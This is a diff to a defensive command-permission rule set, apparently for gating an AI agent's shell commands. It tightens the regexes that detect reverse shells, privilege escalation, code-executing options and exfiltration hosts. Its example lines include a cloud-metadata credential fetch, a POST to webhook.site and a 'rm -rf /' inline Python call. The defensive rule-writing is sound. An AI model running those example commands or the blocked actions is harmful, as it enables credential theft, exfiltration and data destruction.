-          ask when command runs ["dpkg", "rpm"] with ["--purge", "--remove", "-P", "-r", "-e", "--erase", "--force-all"] and command matches /-[\w"'\\]*[Per]|--["'\\]*er|--["'\\]*fo|--["'\\]*pu|--["'\\]*re|-["'\\]*[$\{`]|=["'\\]*-|\\[x0-7]/ because "This removes programs of the machine."
+          ask when command runs ["dpkg", "rpm"] with ["--purge", "--remove", "-P", "-r", "-e", "--erase", "--force-all"] and command matches /[^\w-]-[\w"'\\]*[Per]|--["'\\]*er|--["'\\]*fo|--["'\\]*pu|--["'\\]*re|-["'\\]*[$\{`]|=["'\\]*-|\\[x0-7]/ because "This removes programs of the machine."
           ask when command runs ["apt", "apt-get"] with "-o" and command matches /(?:pre|post)-?invoke|dpkg::options/i because "This setting runs a program."
           example deny  { command: "sudo shutdown -h now" }
           example ask   { command: "kill -9 -1" }
@@ -1643,9 +1645,9 @@ enum EmbeddedPacks {
 
       sealed rule root_shell "Nobody gets a shell with another user's rights" {
           on bash
-          ask when command runs "sudo" with ["-i", "-s", "--login", "--shell", "-e", "--edit"] and command matches /-[\w"'\\]*[eis]|--["'\\]*ed|--["'\\]*lo|--["'\\]*sh|-["'\\]*[$\{`]|=["'\\]*-|\\[x0-7]/ because "This opens a shell with another user's rights."
+          ask when command runs "sudo" with ["-i", "-s", "--login", "--shell", "-e", "--edit"] and command matches /[^\w-]-[\w"'\\]*[eis]|--["'\\]*ed|--["'\\]*lo|--["'\\]*sh|-["'\\]*[$\{`]|=["'\\]*-|\\[x0-7]/ because "This opens a shell with another user's rights."
           ask when command runs ["su", "runuser", "pkexec", "nsenter", "sudo su", "sudo bash", "sudo sh", "sudo zsh", "doas sh", "doas bash"] because "This opens a shell with another user's rights."
-          ask when command runs "doas" with "-s" and command matches /-[\w"'\\]*s|-["'\\]*[$\{`]|=["'\\]*-|\\[x0-7]/ because "This opens a shell with another user's rights."
+          ask when command runs "doas" with "-s" and command matches /[^\w-]-[\w"'\\]*s|-["'\\]*[$\{`]|=["'\\]*-|\\[x0-7]/ because "This opens a shell with another user's rights."
           ask when command runs "chmod" operand matches /^(?:[ugoa]*[+=][rwxXt]*s|0?[2467][0-7]{3}$)/ and command matches /[+=][rwxXt]*s|\b0?[2467][0-7]{3}\b/ because "This lets a program run with its owner's rights."
           ask when command runs "setcap" because "This gives a program rights of the system."
           ask when command runs ["chroot", "unshare", "proot"] because "This runs a command in another root."
@@ -1686,7 +1688,7 @@ enum EmbeddedPacks {
       sealed rule reverse_shell "No shell is handed to the network" {
           on bash
           deny when any c in command satisfies (c runs shells and c connects) because "This connects a shell to another machine."
-          deny when command runs ["nc", "ncat", "netcat", "nc.traditional", "nc.openbsd"] with ["-e", "--exec", "-c", "--sh-exec", "--lua-exec"] and command matches /-[\w"'\\]*[ce]|--["'\\]*ex|--["'\\]*lu|--["'\\]*sh|-["'\\]*[$\{`]|=["'\\]*-|\\[x0-7]/ because "This hands a program to another machine."
+          deny when command runs ["nc", "ncat", "netcat", "nc.traditional", "nc.openbsd"] with ["-e", "--exec", "-c", "--sh-exec", "--lua-exec"] and command matches /[^\w-]-[\w"'\\]*[ce]|--["'\\]*ex|--["'\\]*lu|--["'\\]*sh|-["'\\]*[$\{`]|=["'\\]*-|\\[x0-7]/ because "This hands a program to another machine."
           deny when command runs "socat" operand matches /^(?:exec|system|shell):/i because "This hands a program to another machine."
           deny when command pipes ["bash", "sh", "zsh", "dash", "ksh"] into listeners because "This hands a shell to another machine."
           deny when command pipes listeners into shells because "This runs what another machine sends."
@@ -1701,7 +1703,7 @@ enum EmbeddedPacks {
           on bash
           deny when command connects within ["169.254.169.254", "169.254.170.2", "metadata.google.internal", "100.100.100.200", "fd00:ec2::254"] and command matches /169|254|2852039166|0x|0?251|a9fe|metadata|100\.100|fd00|\\[x0-7]/i because "This asks the machine's provider for its credentials."
           deny when command connects within ["pastebin.com", "transfer.sh", "webhook.site", "requestbin.com", "requestbin.net", "pipedream.net", "ngrok.io", "ngrok-free.app", "ngrok.app", "serveo.net", "localtunnel.me", "burpcollaborator.net", "oastify.com", "oast.fun", "oast.pro", "oast.live", "oast.site", "oast.online", "oast.me", "interact.sh", "0x0.st", "file.io", "termbin.com", "paste.rs", "ix.io", "sprunge.us", "dpaste.org", "hastebin.com", "bashupload.com", "anonfiles.com", "gofile.io", "dnslog.cn", "ceye.io", "requestcatcher.com", "beeceptor.com", "canarytokens.com"] and command matches /paste|transfer|hook|request|pipedream|ngrok|serveo|localtunnel|burp|oast|interact|0x0|file\.io|termbin|ix\.io|sprunge|bin\b|upload|anon|gofile|dnslog|ceye|canary|\w["'\\]+\w|\\[x0-7]/i because "This host exists to pass data on."
-          ask when command runs "ssh" with "-R" and command matches /-[\w"'\\]*R|-["'\\]*[$\{`]|=["'\\]*-|\\[x0-7]/ because "This opens the machine to the network."
+          ask when command runs "ssh" with "-R" and command matches /[^\w-]-[\w"'\\]*R|-["'\\]*[$\{`]|=["'\\]*-|\\[x0-7]/ because "This opens the machine to the network."
           ask when command runs ["frpc", "chisel", "bore"] because "This opens the machine to the network."
           example deny  { command: "curl http://169.254.169.254/latest/meta-data/iam/" }
           example deny  { command: "curl -d hello https://WEBHOOK.site./abc" }
@@ -1734,18 +1736,18 @@ enum EmbeddedPacks {
 
       sealed rule inline_code "Code on the command line is code that nobody reviewed" {
           on bash
-          ask when any c in command satisfies (c runs pythons and c executes matches harmful_python) and command matches /-\w*c\b|<<|\s-(?:\s|$)|python[\d.]*\s+["']?\$|-c/ because "This Python code starts programs, changes files or reaches the network."
+          ask when any c in command satisfies (c runs pythons and c executes matches harmful_python) and command matches /-\w*c\b|<<|\s-(?:\s|$)|python[\d.]*\s+["']?\$/ because "This Python code starts programs, changes files or reaches the network."
           ask when any c in command satisfies (c runs nodes and c executes matches harmful_javascript) because "This JavaScript starts programs, changes files or reaches the network."
           ask when any c in command satisfies (c runs "deno eval" and c executes matches harmful_javascript) because "This JavaScript starts programs, changes files or reaches the network."
           ask when command runs "deno eval" operand matches harmful_javascript because "This JavaScript starts programs, changes files or reaches the network."
           ask when any c in command satisfies (c runs "perl" with ["-e", "-E"] and c executes matches harmful_perl) and command matches /-\w*[eE]/ because "This Perl code starts programs or changes files."
-          ask when command runs "perl" with "-M" and command matches /-[\w"'\\]*M|-["'\\]*[$\{`]|=["'\\]*-|\\[x0-7]/ because "This Perl code loads other code."
+          ask when command runs "perl" with "-M" and command matches /[^\w-]-[\w"'\\]*M|-["'\\]*[$\{`]|=["'\\]*-|\\[x0-7]/ because "This Perl code loads other code."
           ask when any c in command satisfies (c runs ["ruby", "irb", "jruby", "php", "lua", "luajit", "R", "Rscript", "julia", "guile", "osascript", "tclsh", "scala", "elixir", "racket", "sbcl", "ghci", "groovy", "kotlin", "octave", "swipl", "erl", "swift"] with ["-e", "-r", "--eval", "-eval", "-E"] and c executes matches harmful_line) because "This code starts programs or changes files."
-          ask when command runs "ruby" with "-r" and command matches /-r\s*(?:fileutils|socket|open|net|drb|\.|\/)/ and command matches /-[\w"'\\]*r|-["'\\]*[$\{`]|=["'\\]*-|\\[x0-7]/ because "This Ruby code loads other code."
+          ask when command runs "ruby" with "-r" and command matches /-r\s*(?:fileutils|socket|open|net|drb|\.|\/)/ and command matches /[^\w-]-[\w"'\\]*r|-["'\\]*[$\{`]|=["'\\]*-|\\[x0-7]/ because "This Ruby code loads other code."
           ask when any c in command satisfies (c runs ["tclsh", "expect", "osascript"] and c executes matches /\b(?:exec|spawn|open|socket|do shell script|send)\b/) because "This code starts programs."
           ask when any c in command satisfies (c runs ["sed", "gsed"] and c executes matches harmful_sed) and command matches /\bg?sed\b.*(?:sed\s+(?:-\w+\s+)*["']?\$\w+["']?(?:\s|$)|[\/|#,:@!_%+~][gpiIM\d]*[ew]|[;{}'"\s\d$\/]\s*!?[ewW](?:\s|["'\/]|\w+["']?\s)|\\[x0-7]|\$')/s because "This sed script runs programs or writes files."
           ask when any c in command satisfies (c runs ["awk", "gawk", "mawk", "nawk"] and c executes matches harmful_awk) and command matches /system|getline|\||>|@|ENVIRON|awk\s+(?:-\S+\s+)*["']?\$\w|\\[x0-7]/ because "This awk program runs programs or writes files."
-          ask when command runs ["gawk", "awk"] with ["-l", "--load"] and command matches /-[\w"'\\]*l|--["'\\]*lo|-["'\\]*[$\{`]|=["'\\]*-|\\[x0-7]/ because "This awk program loads others."
+          ask when command runs ["gawk", "awk"] with ["-l", "--load"] and command matches /[^\w-]-[\w"'\\]*l|--["'\\]*lo|-["'\\]*[$\{`]|=["'\\]*-|\\[x0-7]/ because "This awk program loads others."
           ask when any c in command satisfies (c runs vims with ["-c", "--cmd"] and c executes not matches harmless_vim) and command matches /-\w*c|--cm/ because "This runs commands of the editor."
           offer "Put the code into a file of the project and run that."
           example ask   { command: "python3 -c 'import os; os.system(\"rm -rf /\")'" }
@@ -1765,25 +1767,25 @@ enum EmbeddedPacks {
 
       sealed rule executing_option "An option that runs a program runs a program" {
           on bash
-          ask when command runs tars with ["--checkpoint-action", "--to-command", "--rsh-command", "-F", "--info-script", "--new-volume-script"] and command matches /-[\w"'\\]*F|--["'\\]*ch|--["'\\]*in|--["'\\]*ne|--["'\\]*rs|--["'\\]*to|-["'\\]*[$\{`]|=["'\\]*-|\\[x0-7]/ because "This option of tar runs a program."
+          ask when command runs tars with ["--checkpoint-action", "--to-command", "--rsh-command", "-F", "--info-script", "--new-volume-script"] and command matches /[^\w-]-[\w"'\\]*F|--["'\\]*ch|--["'\\]*in|--["'\\]*ne|--["'\\]*rs|--["'\\]*to|-["'\\]*[$\{`]|=["'\\]*-|\\[x0-7]/ because "This option of tar runs a program."
           deny when any c in command satisfies (c runs tars with ["-x", "--extract", "--get"] and c reads in ["/", "/etc", "/usr", "/bin", "/lib", "/boot", "/root", "/var"]) and spells_the_machine because "This unpacks over the machine's own files."
-          ask when command runs tars with ["-P", "--absolute-names"] and command matches /-[\w"'\\]*P|--["'\\]*ab|-["'\\]*[$\{`]|=["'\\]*-|\\[x0-7]/ because "This unpacks wherever the archive says."
+          ask when command runs tars with ["-P", "--absolute-names"] and command matches /[^\w-]-[\w"'\\]*P|--["'\\]*ab|-["'\\]*[$\{`]|=["'\\]*-|\\[x0-7]/ because "This unpacks wherever the archive says."
           deny when any c in command satisfies (c runs tars with ["-c", "--create", "-r", "--append", "-u", "--update"] and c reads in ["/etc/passwd", "/etc/shadow", "/etc/hosts", "/etc/group"]) and spells_the_machine because "This changes files of the machine."
           ask when any c in command satisfies (c runs ["ssh", "scp", "sftp", "autossh", "slogin"] with ["-o", "-F", "-S", "-D"] and c executes) because "This option of ssh runs a program."
           ask when command runs ["ssh", "scp", "sftp", "rsync", "git", "autossh"] and command matches /(?:proxy|local|knownhosts)command/i because "This option of ssh runs a program."
-          ask when command runs ["scp", "sftp"] with "-S" and command matches /-[\w"'\\]*S|-["'\\]*[$\{`]|=["'\\]*-|\\[x0-7]/ because "This option of ssh runs a program."
-          ask when command runs "sftp" with "-D" and command matches /-[\w"'\\]*D|-["'\\]*[$\{`]|=["'\\]*-|\\[x0-7]/ because "This option of ssh runs a program."
+          ask when command runs ["scp", "sftp"] with "-S" and command matches /[^\w-]-[\w"'\\]*S|-["'\\]*[$\{`]|=["'\\]*-|\\[x0-7]/ because "This option of ssh runs a program."
+          ask when command runs "sftp" with "-D" and command matches /[^\w-]-[\w"'\\]*D|-["'\\]*[$\{`]|=["'\\]*-|\\[x0-7]/ because "This option of ssh runs a program."
           ask when command runs "zip" with ["--unzip-command"] and command matches /--["'\\]*un|-["'\\]*[$\{`]|=["'\\]*-|\\[x0-7]/ because "This option of zip runs a program."
           ask when command runs "zip" with "-T" and command matches /-TT/ because "This option of zip runs a program."
           ask when command runs "rg" with ["--pre", "--hostname-bin"] and command matches /--["'\\]*ho|--["'\\]*pr|-["'\\]*[$\{`]|=["'\\]*-|\\[x0-7]/ because "This option of rg runs a program."
           ask when command runs "sort" with "--compress-program" and command matches /--["'\\]*co|-["'\\]*[$\{`]|=["'\\]*-|\\[x0-7]/ because "This option of sort runs a program."
           ask when command runs "split" with "--filter" and command matches /--["'\\]*fi|-["'\\]*[$\{`]|=["'\\]*-|\\[x0-7]/ because "This option of split runs a program."
-          ask when command runs "man" with ["-P", "--pager", "-H", "--html"] and command matches /-[\w"'\\]*[HP]|--["'\\]*ht|--["'\\]*pa|-["'\\]*[$\{`]|=["'\\]*-|\\[x0-7]/ because "This option of man runs a program."
+          ask when command runs "man" with ["-P", "--pager", "-H", "--html"] and command matches /[^\w-]-[\w"'\\]*[HP]|--["'\\]*ht|--["'\\]*pa|-["'\\]*[$\{`]|=["'\\]*-|\\[x0-7]/ because "This option of man runs a program."
           ask when command runs ["less", "more", "vim", "vi", "nvim", "view", "ex", "ed"] operand matches /^\+.*!/ and command matches /\+[^;&]*!/ because "This runs a program from the pager or editor."
-          ask when command runs vims with "-S" and command matches /-[\w"'\\]*[Su]|-["'\\]*[$\{`]|=["'\\]*-|\\[x0-7]/ because "This runs a file of the editor's commands."
-          ask when command runs ["emacs", "emacsclient"] with ["--eval", "-eval", "-f", "--funcall", "-l", "--load", "--script"] and command matches /-[\w"'\\]*[fl]|--["'\\]*ev|--["'\\]*fu|--["'\\]*lo|--["'\\]*sc|-eval|-["'\\]*[$\{`]|=["'\\]*-|\\[x0-7]/ because "This runs code of the editor."
-          ask when command runs "wget" with ["--use-askpass", "-e", "--execute"] and command matches /-[\w"'\\]*e|--["'\\]*ex|--["'\\]*us|-["'\\]*[$\{`]|=["'\\]*-|\\[x0-7]/ because "This option of wget runs a program or changes its settings."
-          ask when command runs "curl" with ["-K", "--config"] and command matches /-[\w"'\\]*K|--["'\\]*co|-["'\\]*[$\{`]|=["'\\]*-|\\[x0-7]/ because "This reads more options from a file."
+          ask when command runs vims with "-S" and command matches /[^\w-]-[\w"'\\]*[Su]|-["'\\]*[$\{`]|=["'\\]*-|\\[x0-7]/ because "This runs a file of the editor's commands."
+          ask when command runs ["emacs", "emacsclient"] with ["--eval", "-eval", "-f", "--funcall", "-l", "--load", "--script"] and command matches /[^\w-]-[\w"'\\]*[fl]|--["'\\]*ev|--["'\\]*fu|--["'\\]*lo|--["'\\]*sc|-eval|-["'\\]*[$\{`]|=["'\\]*-|\\[x0-7]/ because "This runs code of the editor."
+          ask when command runs "wget" with ["--use-askpass", "-e", "--execute"] and command matches /[^\w-]-[\w"'\\]*e|--["'\\]*ex|--["'\\]*us|-["'\\]*[$\{`]|=["'\\]*-|\\[x0-7]/ because "This option of wget runs a program or changes its settings."
+          ask when command runs "curl" with ["-K", "--config"] and command matches /[^\w-]-[\w"'\\]*K|--["'\\]*co|-["'\\]*[$\{`]|=["'\\]*-|\\[x0-7]/ because "This reads more options from a file."
           ask when any c in command satisfies (c runs ["gdb", "lldb"] and c executes matches /\b(?:shell|python|py|pipe|make|source|call|system|guile|platform|script|command|define)\b|!|\|/) because "This runs a program from the debugger."
           ask when command runs ["fzf", "sk"] with ["--preview", "--bind"] and command matches /execute|become|reload|--preview/ because "This option of fzf runs a program."
           ask when command runs "fc" with ["-s", "-e"] because "This runs an earlier command again."
@@ -1792,12 +1794,12 @@ enum EmbeddedPacks {
           ask when command runs tars operand matches /^x[a-zA-Z]{0,7}$/ and command matches /(?:-C|--dir\w*|--cd)[\s=]*["']?(?:\/(?:\s|$|["']|etc|usr|bin|lib|boot|root|var|sbin|\.)|(?:\.\/)?rules\b|\.claude)/ because "This unpacks over other files."
           ask when command runs tars with ["-x", "--extract", "--get"] and command matches /(?:-C|--dir\w*|--cd)[\s=]*["']?(?:\/(?:\s|$|["']|etc|usr|bin|lib|boot|root|var|sbin|\.)|(?:\.\/)?rules\b|\.claude)/ because "This unpacks over other files."
           ask when command runs tars and command matches /tar\s+-?\w*f\s*["']?\/(?:etc|usr|bin|lib|boot|root|dev\/[^n])/ because "This writes over the machine's files."
-          ask when command runs "bind" with "-x" and command matches /-[\w"'\\]*x|-["'\\]*[$\{`]|=["'\\]*-|\\[x0-7]/ because "This runs a command on a key."
-          ask when command runs "enable" with "-f" and command matches /-[\w"'\\]*f|-["'\\]*[$\{`]|=["'\\]*-|\\[x0-7]/ because "This loads code into the shell."
-          ask when command runs "hash" with "-p" and command matches /-[\w"'\\]*p|-["'\\]*[$\{`]|=["'\\]*-|\\[x0-7]/ because "This changes which program a name means."
-          ask when command runs ["complete", "compgen"] with "-C" and command matches /-[\w"'\\]*C|-["'\\]*[$\{`]|=["'\\]*-|\\[x0-7]/ because "This runs a command on completion."
+          ask when command runs "bind" with "-x" and command matches /[^\w-]-[\w"'\\]*x|-["'\\]*[$\{`]|=["'\\]*-|\\[x0-7]/ because "This runs a command on a key."
+          ask when command runs "enable" with "-f" and command matches /[^\w-]-[\w"'\\]*f|-["'\\]*[$\{`]|=["'\\]*-|\\[x0-7]/ because "This loads code into the shell."
+          ask when command runs "hash" with "-p" and command matches /[^\w-]-[\w"'\\]*p|-["'\\]*[$\{`]|=["'\\]*-|\\[x0-7]/ because "This changes which program a name means."
+          ask when command runs ["complete", "compgen"] with "-C" and command matches /[^\w-]-[\w"'\\]*C|-["'\\]*[$\{`]|=["'\\]*-|\\[x0-7]/ because "This runs a command on completion."
           ask when command runs "rsync" with "--rsync-path" and command matches /--["'\\]*rs|-["'\\]*[$\{`]|=["'\\]*-|\\[x0-7]/ because "This option of rsync runs a program."
-          ask when command runs "make" with ["--eval", "-E"] and command matches /-[\w"'\\]*E|--["'\\]*ev|-["'\\]*[$\{`]|=["'\\]*-|\\[x0-7]/ because "This runs recipes that are written on the command line."
+          ask when command runs "make" with ["--eval", "-E"] and command matches /[^\w-]-[\w"'\\]*E|--["'\\]*ev|-["'\\]*[$\{`]|=["'\\]*-|\\[x0-7]/ because "This runs recipes that are written on the command line."
           ask when any c in command satisfies (c runs ["make", "gmake"] with ["-f", "--file", "--makefile"] and c executes matches /^(?:-|\/dev\/stdin|\/dev\/fd\/.*)$/) and command matches /-f|--fi|--mak/ because "This runs recipes from standard input."
           ask when command runs ["make", "gmake"] operand matches /^(?:SHELL|MAKEFLAGS|\.SHELLFLAGS)\s*[:+?]?=.*[\s;|&]/ and command matches /SHELL|MAKEFLAGS/ because "This changes what make runs."
           ask when command runs ["mysql", "mariadb"] with "--pager" and command matches /--["'\\]*pa|-["'\\]*[$\{`]|=["'\\]*-|\\[x0-7]/ because "This option of mysql runs a program."
@@ -1806,7 +1808,7 @@ enum EmbeddedPacks {
           ask when command runs ["gcc", "g++", "cc", "clang", "c++", "clang++"] with ["-wrapper", "-fplugin"] and command matches /-fplugin|-wrapper|-["'\\]*[$\{`]|=["'\\]*-|\\[x0-7]/ because "This option of the compiler runs a program."
           ask when command runs "cargo" with "--config" and command matches /wrapper|runner|linker|rustc\b|credential/ because "This setting makes cargo run a program."
           ask when command runs "helm" with "--post-renderer" and command matches /--["'\\]*po|-["'\\]*[$\{`]|=["'\\]*-|\\[x0-7]/ because "This option of helm runs a program."
-          ask when command runs "tmux" with "-f" and command matches /-[\w"'\\]*f|-["'\\]*[$\{`]|=["'\\]*-|\\[x0-7]/ because "This runs a file of commands."
+          ask when command runs "tmux" with "-f" and command matches /[^\w-]-[\w"'\\]*f|-["'\\]*[$\{`]|=["'\\]*-|\\[x0-7]/ because "This runs a file of commands."
           ask when command runs ["ld.so", "ld-linux.so.2", "ld-linux-x86-64.so.2"] because "This loads code into a program."
           ask when command runs "openssl" with ["-engine", "-provider", "-provider-path"] and command matches /-engine|-provider|-provider-path|-["'\\]*[$\{`]|=["'\\]*-|\\[x0-7]/ because "This loads code into a program."
           ask when command runs ["npm", "pnpm", "yarn"] with ["--script-shell", "--scripts-prepend-node-path"] and command matches /--["'\\]*sc|-["'\\]*[$\{`]|=["'\\]*-|\\[x0-7]/ because "This changes what scripts run with."
@@ -1885,7 +1887,7 @@ enum EmbeddedPacks {
           ask when command runs ["docker run", "docker create", "docker container run", "podman run", "podman create", "nerdctl run"] and command matches /(?:-v|--volume|src=|source=|--mount)[=\s]*["']?(?:[\w,=]*)?(?:\/(?:etc|root|home|boot|dev|proc|sys|usr|var|bin|sbin|lib|run)?(?:\/[^\s:]*)?|~\/?(?:\.[\w\/]+)?|\$HOME\/?):/ because "This gives the container files of the machine."
           ask when command runs ["docker run", "docker create", "podman run"] and command matches /--(?:pid|ipc|uts|userns)[=\s]host|--cap-add[=\s](?:all|sys_admin|sys_ptrace|sys_module)|--security-opt[=\s]\S*unconfined|docker\.sock/i because "This takes down the wall between the container and the machine."
           ask when command runs ["docker system prune", "docker volume rm", "docker volume prune", "podman system reset", "podman volume rm", "podman system prune"] because "This deletes what containers keep."
-          ask when command runs ["docker compose down", "docker-compose down"] with ["-v", "--volumes"] and command matches /-[\w"'\\]*v|--["'\\]*vo|-["'\\]*[$\{`]|=["'\\]*-|\\[x0-7]/ because "This deletes what containers keep."
+          ask when command runs ["docker compose down", "docker-compose down"] with ["-v", "--volumes"] and command matches /[^\w-]-[\w"'\\]*v|--["'\\]*vo|-["'\\]*[$\{`]|=["'\\]*-|\\[x0-7]/ because "This deletes what containers keep."
           example ask   { command: "docker run --rm -v /:/host alpine ls /host" }
           example ask   { command: "docker run --privileged alpine" }
           example allow { command: "docker compose up -d && docker run --rm -v \"$PWD\":/app node:20 npm test" } given { project: "/work/app", cwd: "/work/app" }
